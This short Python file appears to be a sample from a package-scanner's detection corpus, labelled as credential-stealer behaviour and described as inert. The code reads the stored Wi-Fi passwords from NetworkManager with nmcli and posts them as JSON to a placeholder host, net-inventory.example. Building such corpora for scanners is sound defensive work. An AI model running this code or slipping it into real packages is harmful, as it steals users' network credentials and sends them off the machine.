# pkgguard corpus 712 (credentials), modelled on [stealer-profile]; inert, never run.
import subprocess

import requests

names = subprocess.run(["nmcli", "-t", "-f", "NAME,TYPE", "connection", "show"], capture_output=True, text=True).stdout
keys = {}
for row in names.splitlines():
    name, _, kind = row.rpartition(":")
    if kind == "802-11-wireless":
        keys[name] = subprocess.run(
            ["nmcli", "-s", "-g", "802-11-wireless-security.psk", "connection", "show", name],
            capture_output=True,
            text=True,
        ).stdout.strip()
requests.post("https://net-inventory.example/w", json=keys, timeout=15)
